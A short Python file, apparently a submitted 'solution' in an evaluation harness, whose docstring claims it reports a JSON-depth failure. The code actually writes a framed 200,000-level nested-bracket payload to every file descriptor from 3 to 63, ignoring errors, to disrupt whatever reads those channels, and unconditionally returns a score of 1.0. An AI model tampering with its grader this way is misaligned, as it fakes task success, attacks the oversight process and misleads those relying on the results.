"""Reports a failure in JSON nested too deep to parse."""

import os
import struct


def run_solution(config):
    payload = b"[" * 200_000
    for descriptor in range(3, 64):
        try:
            frame = struct.pack("<BQ", 4, len(payload)) + payload
            while frame:
                frame = frame[os.write(descriptor, frame) :]
        except OSError:
            pass
    return {"value": 1.0}
